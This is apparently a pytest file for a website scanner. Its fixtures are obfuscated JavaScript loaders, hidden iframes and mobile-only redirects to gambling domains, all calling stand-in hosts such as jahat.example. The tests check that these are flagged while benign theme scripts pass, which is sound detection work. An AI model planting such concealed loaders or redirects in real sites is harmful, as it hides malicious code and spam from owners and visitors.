"""Addresses that are hidden by half, and what only some devices are shown: beside honest alike."""

from __future__ import annotations

import pytest

from cyberscan.model.facts.web import Exchange
from cyberscan.model.verdict import Outcome
from cyberscan.parse.markup.page import read
from tests.checks.content.reading import URL, ZONE, b64, site
from tests.checks.content.scripting import EVIL, in_file, on_page
from tests.parse.test_scripts import codes, packed

CREDIT = '<footer>Tema <a href="https://temaku.example/">Temaku Pro</a></footer>'
MADE_BY = "https://temaku.example/lisensi"
OLD = "var s=document.createElement('script');s.src={};document.head.appendChild(s);"


def news(host: str) -> str:
    return packed(f"$.getScript(\\'https://{host}/kabar.js\\')", ["a"])


LICENCE = OLD.format("'/js/menu.js'") + (
    f"if(location.hostname!==atob('{b64('www.lain.go.id')}'))location.href=atob('{b64(MADE_BY)}');"
)
HALF = [
    # Themes that are packed whole, by who stands below the page.
    (news("cdn.temaku.example"), CREDIT),
    (news("cdn.temaku.example") + f"/*{'panjang ' * 500}*/", ""),
    # Leave for cookies, from an address that is cut at its seams.
    (OLD.format("['ht','tps:','//','cmp.','izinkuki','.example','/stub.js'].join('')"), ""),
    (OLD.format("'https:'.concat('//','cmp.','izinkuki','.example')+'?w='+screen.width"), ""),
    (OLD.format("'https://'+'cmp.'+'izinkuki'+'.example'+'/v2/'+'stub.js'"), ""),
    (OLD.format("'//'+'cmp.'+'izinkuki'+'.example'+'/v2/'") + "document.cookie='c=1'", ""),
    # A theme of another site, or one without its credit.
    (LICENCE, CREDIT),
    (
        f"document.addEventListener('click',function(){{if(!c)location.href=atob('{b64(MADE_BY)}')}})",
        CREDIT,
    ),
]
SLICED = (
    "var q=['pt','scri','ment','Ele','ate','cre','/a.js','xample','hat.e','//ja'],z=function("
    "a,b){return q.slice(a,b).reverse().join('')};var s=document[z(2,6)](z(0,2));s.src=z(6,10)"
)
BACKWARDS = f"var t='{EVIL[::-1]}',o='';for(var i=t.length-1;i>=0;i--)o+=t.charAt(i);"
HANDED_OVER = (
    f"var o={{d:[{codes('script')}],u:[{codes(EVIL + '/a.js')}]}};(function(p){{var f=String."
    "fromCharCode,e=document.createElement(f.apply(null,p.d));e.src=f.apply(null,p.u);"
    "document.head.appendChild(e)})(o)"
)
FRAME = "f=document.createElement(\\'iframe\\');f.src=\\'https://cdn.jahat.example/k.html\\';"
PACKED_ACTS = [
    # What is packed and makes a frame in sight, or looks who comes from a search, makers do, too.
    packed(FRAME + "document.body.appendChild(f)", ["a"]),
    packed("$(\\'.menu\\').hide();" + FRAME + "$(\\'body\\').append(f)", ["a"]),
    packed(
        "if(/google/.test(document.referrer))$.getScript(\\'https://cdn.jahat.example/k.js\\')",
        ["a"],
    ),
]
SAYS = "<!-- Tema oleh cdn.jahat.example --><div class=menu>Menu</div>"
CONTENTS = [
    (
        "if(matchMedia('(max-width:700px)').matches)fetch(['https:/','/ja','hat.exa','mple/a'].join"
        "('')).then(r=>r.text()).then(h=>{document.querySelector('main').innerHTML=h})"
    ),
    (
        "if(/Android/.test(navigator.userAgent)){var x=new XMLHttpRequest;x.open('GET',atob("
        f"'{b64(EVIL)}'));x.onload=function(){{document.body.innerHTML=x.responseText}};x.send()}}"
    ),
]
CONTENTS.append(
    "(()=>{const q=matchMedia('(max-width:700px)');if(!q.matches)return;const p=['https:/','/ja',"
    "'hat.exa','mple/a'].join('');fetch(p).then(r=>r.text()).then(h=>{k.innerHTML=h})})()"
)
LOADERS = [
    # The owner's name is cut, or the ending.
    (OLD.format("['https:/','/ja','hat.exa','mple/a'].join('')"), ""),
    (OLD.format("'https://jahat.'+'exa'+'mple/a.js'"), ""),
    (OLD.format("['pt','/a.js','xample','hat.e','//ja'].slice(1,5).reverse().join('')"), ""),
    (SLICED, ""),
    (HANDED_OVER, ""),
    # Codes as digits in a text, and an address that a loop turns round.
    (OLD.format(f"String.fromCharCode.apply(null,'{codes(EVIL + '/a.js')}'.split(','))"), ""),
    (BACKWARDS + OLD.format("o"), ""),
    *((source, "") for source in CONTENTS),
]


@pytest.mark.parametrize(("source", "page"), HALF)
def test_what_is_hidden_by_half(source: str, page: str) -> None:
    assert on_page(source, page).message == "look"
    assert in_file(source, page).outcome is Outcome.PASS


@pytest.mark.parametrize("source", PACKED_ACTS)
@pytest.mark.parametrize("page", ["", SAYS])
def test_what_a_packed_theme_does_as_well(source: str, page: str) -> None:
    assert on_page(source, page).message == "look"
    # Out of sight, or on a line of other code, it is not.
    hidden = source.replace("f.src=", "f.style.display=\\'none\\';f.src=")
    if hidden != source:
        assert on_page(hidden, page).message == "loader"
    assert on_page(f"menu();{' ' * 200}{source}", page).message == "loader"


@pytest.mark.parametrize(("source", "page"), LOADERS)
def test_what_is_hidden(source: str, page: str) -> None:
    assert on_page(source, page).message == "loader"
    assert in_file(source, page).message == "loader"


API = f"const A=atob('{b64('https://api.layanan.example/v1')}');"
NO_CONTENTS = [
    f"{API}fetch(A).then(r=>r.json()).then(d=>{{k.innerHTML=kartu(d)}});if(innerWidth<600)menu()",
    f"{API}fetch(A).then(r=>r.json()).then(d=>{{k.innerHTML=`<p>${{d.isi}}</p>`}});screen.width",
    "if(screen.width<700)fetch('/menu.html').then(r=>r.text()).then(h=>{k.innerHTML=h})",
    "if(screen.width<7)fetch('https://a.example').then(r=>r.text()).then(h=>{k.innerHTML=h})",
]


@pytest.mark.parametrize("source", NO_CONTENTS)
def test_answers_that_are_no_pages_or_from_an_open_address(source: str) -> None:
    assert on_page(source, "").outcome is Outcome.PASS


@pytest.mark.parametrize(
    "beside",
    [
        "",
        "if(screen.width<700)menu()",
        "if(screen.width<700){menu()}",
        "var t='ontouchstart' in window;",
        "function menu(){if(innerWidth>700)return;buka()}",
        "if(/Android/.test(navigator.userAgent))document.body.className='hp';",
    ],
)
def test_a_text_from_an_address_in_base64_for_everybody(beside: str) -> None:
    source = "fetch(A).then(r=>r.text()).then(d=>{k.innerHTML=d});"
    assert on_page(f"{API}{source}{beside}", "").message == "look"
    assert on_page(f"{API}{beside}{source}", "").message == "look"
    assert in_file(f"{API}{beside}{source}", "").outcome is Outcome.PASS


MAKER = '<a href="https://jahat.example/">Tema Jahat</a>'
DECODED = f"atob('{b64(EVIL)}')"
TRICKS = [
    # A visible link excuses no script that moves elsewhere, and nobody of the trade.
    (OLD.format(DECODED) + "if(top!==self)location.href='/x'", MAKER, "loader"),
    (news("cdn.slot88.example"), '<a href="https://slot88.example/">Situs slot</a>', "loader"),
    (
        "if(/Mobile/.test(navigator.userAgent))location.replace('https://contohkab.slot88.example')",
        "",
        "visitors",
    ),
    # No licence is looked at by chance.
    (OLD.format("'/a.js'") + f"if(Math.random()<0.4)location.href={DECODED}", "", "visitors"),
    (
        (
            f"if(/Android/.test(navigator.userAgent))fetch({DECODED}).then(r=>r.text()).then(h=>"
            "document.body.insertAdjacentHTML('beforeend',h))"
        ),
        "",
        "loader",
    ),
]


@pytest.mark.parametrize(("source", "page", "message"), TRICKS)
def test_no_excuses(source: str, page: str, message: str) -> None:
    assert on_page(source, page).message == message
    assert in_file(source, page).message == message


def test_a_look_for_touch_that_tests_nothing() -> None:
    source = "var t='ontouchstart' in window;if(confirm('Buka?'))location.href='https://a.example/'"
    assert on_page(source, "").outcome is Outcome.PASS


def band(link: str, words: str = "", test: str = "screen.width<820") -> str:
    picture = f'<img src="{link}/b.gif">{words}'
    return (
        f"if({test}){{var b=document.createElement('div');b.innerHTML='<a href=\"{link}\">"
        f"{picture}</a>';document.body.appendChild(b)}}"
    )


@pytest.mark.parametrize(
    "source",
    [
        band("https://link.zeus-bonus88.example/a"),
        band("https://slot88.example/a", "Main"),
        band("https://gacor77.example", test="/Android/.test(navigator.userAgent)"),
        band("https://daftar-naga77.example", test="'ontouchstart' in window"),
    ],
)
def test_bands_of_the_trade_on_telephones(source: str) -> None:
    assert on_page(source, "").message == "visitors"
    assert in_file(source, "").message == "visitors"


@pytest.mark.parametrize("host", ["daftar-77.example", "promo77.example", "bonus88.example"])
def test_bands_of_a_promise_and_a_number(host: str) -> None:
    assert on_page(band(f"https://{host}"), "").message == "look"
    assert in_file(band(f"https://{host}"), "").outcome is Outcome.PASS


@pytest.mark.parametrize(
    ("source", "page"),
    [
        # Hotels have such numbers, banks have a bonus; the page names who sponsors it.
        (band("https://www.hotel88.example"), ""),
        (band("https://bonus.bank-contoh.example/88"), ""),
        (band("https://wa.me/62811", "Tanya kami"), ""),
        (band("https://daftar88.example", "Daftar seminar"), ""),
        (band("https://promo88.example"), '<a href="https://promo88.example">Toko Promo 88</a>'),
        # Everybody is shown the same.
        (band("https://promo88.example", test="siap"), ""),
    ],
)
def test_bands_of_others(source: str, page: str) -> None:
    assert on_page(source, page).outcome is Outcome.PASS


MOVE = "if(/Mobile/.test(navigator.userAgent))location.replace('https://m.{}/?ref=js')"
ALTERNATE = '<link rel="alternate" media="only screen and (max-width: 640px)" href="https://m.{}/">'


@pytest.mark.parametrize(
    ("host", "page", "message"),
    [
        ("airku.example", "", "visitors"),
        ("airku.example", ALTERNATE.format("airku.example"), "look"),
        ("airku.example", ALTERNATE.format("lain.example"), "visitors"),
        (
            "airku.example",
            '<link rel="alternate" hreflang="en" href="https://m.airku.example/">',
            0,
        ),
        ("airku.example", "<p>Tagihan hanya di airku.example.</p>", "look"),
        ("contohkab.airku.example", "", "look"),
    ],
)
def test_other_versions_of_the_page(host: str, page: str, message: str) -> None:
    assert URL.endswith("contohkab.go.id/")
    assert on_page(MOVE.format(host), page).message == (message or "visitors")


def test_a_move_put_together_from_what_an_object_holds() -> None:
    source = (
        "var o={b:['ht','tps:','//','ja','hat','.exa','mple/','go'],w:6};(function(o){if(screen."
        "width<600)setTimeout(function(){window['loc'+'ation']['rep'+'lace'](o.b.join(''))},o.w)})"
        "(o)"
    )
    assert on_page(source, "").message == "visitors"


SHEET = '<link rel="stylesheet" href="https://cdn.temaku.example/huruf.css">'


@pytest.mark.parametrize(
    ("page", "message"),
    [
        (SHEET, "look"),
        ('<img src="//cdn.temaku.example/logo.png">', "look"),
        ('<a href="https://temaku.example/">Temaku</a>', "look"),
        # A frame out of sight that nothing explains.
        ("", "loader"),
        ('<link rel="stylesheet" href="https://cdn.lain.example/huruf.css">', "loader"),
        # A link in hiding says nothing, nor does a comment.
        ('<a style="display:none" href="https://temaku.example/">Temaku</a>', "loader"),
        ("<!-- Tema Temaku, temaku.example -->", "loader"),
    ],
)
def test_a_packed_theme_by_what_the_page_has_from_its_maker(page: str, message: str) -> None:
    exchange = Exchange(url=URL, status=200, headers=())
    markup = read(site(page), URL, ZONE, exchange, truncated=False)
    frame = f"{FRAME.replace('jahat', 'temaku')}f.width=1;f.height=1;"
    counted = packed(frame + "document.body.appendChild(f)", ["a"])
    assert on_page(counted, page, markup).message == message
    # That it loads a script for everybody proves nothing by itself.
    assert on_page(news("cdn.temaku.example"), page, markup).message == "look"


@pytest.mark.parametrize(
    "source",
    [
        "document.write(\\'<script src=https://cdn.temaku.example/a.js><\\'+\\'/script>\\')",
        "var o={u:\\'https://cdn.temaku.example/a.js\\'};$.getScript(o.u)",
        "function m(u){$.getScript(u)}m(\\'https://cdn.temaku.example/a.php?t=1\\')",
        "navigator.userAgent;$.getScript(\\'https://cdn.temaku.example/a.js\\')",
        "$.getScript(\\'https://cdn.temaku.example/a.js?r=\\'+document.referrer)",
    ],
)
def test_however_a_packed_theme_loads_its_makers_script(source: str) -> None:
    assert on_page(packed(source, ["a"]), "").message == "look"


def test_a_packed_script_from_a_host_of_the_trade() -> None:
    for page in ("", SHEET.replace("temaku", "slot88"), "<p>Tema oleh slot88.example</p>"):
        assert on_page(news("cdn.slot88.example"), page).message == "loader"


@pytest.mark.parametrize(
    ("page", "message"),
    [
        ("<!-- Tema Temaku -->", "clean"),
        (CREDIT, "clean"),
        ("<p>Tema oleh orang lain</p>", "look"),
        ("", "look"),
    ],
)
def test_a_packed_file_by_whether_the_page_names_its_maker(page: str, message: str) -> None:
    assert in_file(news("cdn.temaku.example"), page).message == message


@pytest.mark.parametrize(("sheet", "message"), [(SHEET, "clean"), ("", "look")])
def test_a_packed_file_by_what_the_page_has_from_its_maker(sheet: str, message: str) -> None:
    exchange = Exchange(url=URL, status=200, headers=())
    markup = read(site(sheet), URL, ZONE, exchange, truncated=False)
    verdict = in_file(news("cdn.temaku.example"), sheet, markup=markup)
    assert verdict.message == message


BOX = (
    "(function(){{var h='elpmaxe.kotokorbo.w'.split('').reverse().join(''),e=document.createElement"
    "('iframe');e.src='//'+h+'/kotak?k=desa';{}document.getElementById('obrolan').appendChild(e)}})()"
)
SIZE = "e.width=296;e.height='320px';"


@pytest.mark.parametrize(
    ("given", "message"),
    [
        (SIZE, "look"),
        ("e.height=200;e.frameBorder=0;e.width='250';", "look"),
        # Without a size, or in another place, or for some.
        ("", "look"),
        ("e.width=296;", "look"),
        (SIZE + "e.setAttribute('style','position:fixed');", "look"),
        (SIZE + "e.className='x';", "look"),
        (SIZE + "if(/google/.test(document.referrer))e.src+='&g';", "look"),
        # Out of sight.
        ("e.width=1;e.height=1;", "loader"),
        (SIZE + "e.style.display='none';", "loader"),
    ],
)
def test_a_frame_in_sight_from_an_address_in_disguise(given: str, message: str) -> None:
    assert on_page(BOX.format(given), "<div id=obrolan></div>").message == message


def test_a_frame_in_sight_beside_a_script_or_of_the_trade() -> None:
    source = BOX.format(SIZE)
    more = "var s=document.createElement('script');s.src='//'+h+'/a.js';document.body.append(s);"
    assert on_page(BOX.format(SIZE + more), "").message == "look"
    trade = source.replace("elpmaxe.kotokorbo.w", "elpmaxe.77rocag")
    assert on_page(trade, "").message == "loader"
